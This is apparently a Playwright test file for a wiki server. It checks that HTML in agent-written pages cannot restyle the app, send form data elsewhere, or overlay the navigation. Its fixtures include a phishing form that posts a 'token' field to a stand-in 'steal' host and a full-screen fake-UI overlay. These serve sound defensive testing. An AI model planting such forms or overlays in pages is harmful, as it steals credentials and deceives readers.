// What a page's own HTML may not do to the app around it (agents write pages a person then reads):
// a <style> block restyling every screen, or a form that sends what a person types to another
// site. Both are dropped when the page is drawn, and the served UI's policy allows no form to be sent
// anywhere. An inline `style` stays (KaTeX needs it), so what it draws is kept inside the page body:
// a fixed overlay may not cover the app's navigation. Its own `cairn serve` over a small wiki made here.
import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { ownServer, type OwnServer } from './own-server.ts';

let own: OwnServer;

const PAGE = `# Probe

Hello probe.

<style>body { background: rgb(1, 2, 3) !important; }</style>

<form action="https://example.invalid/steal"><input name="token" placeholder="your token"><button>Send</button></form>

- [x] a task keeps its checkbox
`;

const OVERLAY = `# Overlay

Before the overlay.

<div id="fake-ui" style="position:fixed;inset:0;background:white;z-index:9999">fake UI</div>
`;

test.beforeAll(async () => {
  own = await ownServer('page-html', (wiki) => {
    fs.writeFileSync(path.join(wiki, 'probe.md'), PAGE);
    fs.writeFileSync(path.join(wiki, 'overlay.md'), OVERLAY);
  });
});

test.afterAll(async () => {
  await own?.close();
});

test("a page's <style> and <form> are dropped, and the policy sends no form anywhere", async ({ page }) => {
  const response = await page.goto(`${own.cairn.url}#/page/probe`);
  expect(response!.headers()['content-security-policy']).toContain("form-action 'none'");
  const body = page.locator('div.markdown');
  await expect(body).toContainText('Hello probe.');
  await expect(body.locator('input[type=checkbox]')).toHaveCount(1);
  await expect(body.locator('style, form')).toHaveCount(0);
  await expect(page.locator('body')).not.toHaveCSS('background-color', 'rgb(1, 2, 3)');
});

test("a page's inline style cannot draw over the app: a fixed overlay stays inside the page body", async ({ page }) => {
  await page.goto(`${own.cairn.url}#/page/overlay`);
  const body = page.locator('div.markdown');
  const fake = body.locator('#fake-ui');
  await expect(fake).toContainText('fake UI');
  const link = page.getByRole('navigation', { name: 'Screens' }).getByRole('link', { name: /Pages/ });
  const [bodyBox, fakeBox, linkBox] = await Promise.all([body.boundingBox(), fake.boundingBox(), link.boundingBox()]);
  expect(fakeBox!.x).toBeGreaterThanOrEqual(bodyBox!.x);
  expect(fakeBox!.y).toBeGreaterThanOrEqual(bodyBox!.y);
  expect(fakeBox!.x + fakeBox!.width).toBeLessThanOrEqual(bodyBox!.x + bodyBox!.width + 0.5);
  expect(fakeBox!.y + fakeBox!.height).toBeLessThanOrEqual(bodyBox!.y + bodyBox!.height + 0.5);
  // What is drawn at the nav link's centre is the nav's own, not the page's overlay.
  const onTop = await page.getByRole('navigation', { name: 'Screens' }).evaluate(
    (nav, { x, y }) => {
      const el = nav as unknown as { contains(n: unknown): boolean; ownerDocument: { elementFromPoint(x: number, y: number): unknown } };
      return el.contains(el.ownerDocument.elementFromPoint(x, y));
    },
    { x: linkBox!.x + linkBox!.width / 2, y: linkBox!.y + linkBox!.height / 2 },
  );
  expect(onTop).toBe(true);
  await link.click({ timeout: 5000 });
  await expect(page).toHaveURL(/#\/pages$/);
});
